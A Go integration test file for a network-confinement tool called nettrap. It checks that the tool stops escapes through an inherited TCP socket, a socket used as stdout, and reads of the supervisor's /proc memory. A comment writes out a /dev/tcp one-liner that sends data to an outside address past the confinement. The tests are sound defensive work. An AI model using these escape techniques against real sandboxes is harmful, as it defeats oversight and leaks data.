package integration

import (
	"bytes"
	"context"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/nettrap/nettrap/integration/internal/harness"
	"github.com/nettrap/nettrap/integration/internal/lab"
)

// runWithFiles runs argv inside as u with files as fds 3, 4, … (inherited,
// as a shell's `exec 3<>/dev/tcp/…` leaves them).
func (e labEnv) runWithFiles(t *testing.T, u harness.User, files []*os.File, argv ...string) labRun {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), harness.Timeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.ExtraFiles = files
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if u == harness.AsNobody {
		lab.RequireRoot(t)
		lab.AsNobody(cmd)
	}
	code := harness.ExitCode(e.Run(cmd))
	if code < 0 {
		t.Fatalf("%s: did not run\nstderr: %s", strings.Join(argv, " "), stderr.String())
	}
	return labRun{stdout: stdout.String(), stderr: stderr.String(), code: code}
}

// TestEscapeInheritedSocket: `exec 3<>/dev/tcp/203.0.113.7/80; nettrap --
// sh -c 'echo x >&3'` delivered to the outside. nettrap now closes an
// inherited network socket before the command starts, with a notice
// naming it and its peer; an inherited pipe (make's jobserver) passes.
func TestEscapeInheritedSocket(t *testing.T) {
	e := newLabEnv(t)
	ln := e.ListenTCP(t, netip.AddrPortFrom(lab.Outside4, 0))
	harness.ForUsers(t, []harness.User{harness.AsSelf, harness.AsNobody}, func(t *testing.T, u harness.User) {
		conn := e.dialOutside(t, ln)
		defer conn.Close()
		sock, local, data := conn.sock, conn.local, conn.data

		script := `printf %s "$0" >&3 && echo sent; echo jobserver >&4`
		marker := "inherited " + u.String() + " unguarded;"
		pr, pw := pipe(t)
		r := e.runWithFiles(t, u, []*os.File{sock, pw}, "/bin/sh", "-c", script, marker)
		pw.Close()
		if !strings.Contains(r.stdout, "sent") {
			t.Fatalf("unguarded: %q %q", r.stdout, r.stderr)
		}
		waitRecord(t, ln, "the unguarded write", func(r lab.Record) bool { return r.Seq == conn.seq && r.Contains([]byte(marker)) })
		if got := readAll(t, pr); got != "jobserver\n" {
			t.Errorf("unguarded pipe carried %q", got)
		}

		guardedMarker := "inherited " + u.String() + " guarded;"
		pr, pw = pipe(t)
		r = e.runWithFiles(t, u, []*os.File{sock, pw}, e.bins.Nettrap, "--", "/bin/sh", "-c", script, guardedMarker)
		pw.Close()
		if strings.Contains(r.stdout, "sent") {
			t.Errorf("under nettrap the write to fd 3 succeeded: %q", r.stdout)
		}
		notice := "nettrap: closed inherited fd 3, a tcp socket " + local + " -> " + ln.Addr.String()
		if !strings.Contains(r.stderr, notice) {
			t.Errorf("stderr lacks %q:\n%s", notice, r.stderr)
		}
		if got := readAll(t, pr); got != "jobserver\n" {
			t.Errorf("under nettrap the inherited pipe carried %q, want it passed untouched", got)
		}
		// The sentinel goes down the same TCP stream: whatever nettrap
		// had let through would be before it.
		sentinel := "sentinel " + u.String()
		if _, err := conn.Write([]byte(sentinel)); err != nil {
			t.Fatal(err)
		}
		waitRecord(t, ln, "the sentinel", func(r lab.Record) bool { return r.Seq == conn.seq && r.Contains([]byte(sentinel)) })
		if got := data(); got != marker+sentinel {
			t.Errorf("LEAK under nettrap: the connection carried %q, want %q", got, marker+sentinel)
		}
	})
}

// TestEscapeSupervisorMemory: a confined process of nettrap's own user
// cannot open nettrap's /proc/PID/mem or /proc/PID/fd/* (nettrap is not
// dumpable); the same process can open those of an ordinary parent.
func TestEscapeSupervisorMemory(t *testing.T) {
	lab.RequireRoot(t) // as nobody: root has CAP_SYS_PTRACE, which passes anyway
	e := newLabEnv(t)
	for _, op := range [][]string{{"open-mem", "ppid"}, {"open-fd", "ppid", "0"}} {
		t.Run(op[0], func(t *testing.T) {
			// `; :` keeps sh from exec'ing escapee: sh stays its parent.
			script := `"$0" "$@"; :`
			r := e.run(t, harness.AsNobody, append([]string{"/bin/sh", "-c", script, e.bins.Escapee}, op...)...)
			mustEscape(t, r)
			r = e.guarded(t, harness.AsNobody, nil, append([]string{e.bins.Escapee}, op...)...)
			if o := parseEscapee(t, r); o.OK || o.Errno != "EACCES" {
				t.Errorf("%v of nettrap: %+v, want EACCES\nstderr: %s", op, o, r.stderr)
			}
		})
	}
}

func pipe(t *testing.T) (*os.File, *os.File) {
	t.Helper()
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close(); w.Close() })
	return r, w
}

func readAll(t *testing.T, f *os.File) string {
	t.Helper()
	var b bytes.Buffer
	if _, err := b.ReadFrom(f); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestEscapeSocketAsStdout: a network socket as the command's own stdout
// cannot be closed without breaking the command: nettrap refuses to run
// it (exit 125), naming the descriptor and its peer.
func TestEscapeSocketAsStdout(t *testing.T) {
	e := newLabEnv(t)
	ln := e.ListenTCP(t, netip.AddrPortFrom(lab.Outside4, 0))
	c, err := e.Dial("tcp", ln.Addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	sock, err := c.(*net.TCPConn).File()
	if err != nil {
		t.Fatal(err)
	}
	defer sock.Close()
	cmd := exec.Command(e.bins.Nettrap, "--", "/bin/sh", "-c", "echo leaked")
	var stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = sock, &stderr
	code := harness.ExitCode(e.Run(cmd))
	want := "its stdout would be a tcp socket " + c.LocalAddr().String() + " -> " + ln.Addr.String()
	if code != 125 || !strings.Contains(stderr.String(), want) {
		t.Errorf("exit %d, stderr %q; want 125 and %q", code, stderr.String(), want)
	}
	if _, err := c.Write([]byte("sentinel")); err != nil {
		t.Fatal(err)
	}
	r := waitRecord(t, ln, "the sentinel", containing("sentinel"))
	if string(r.Data) != "sentinel" {
		t.Errorf("LEAK: the connection carried %q", r.Data)
	}
}
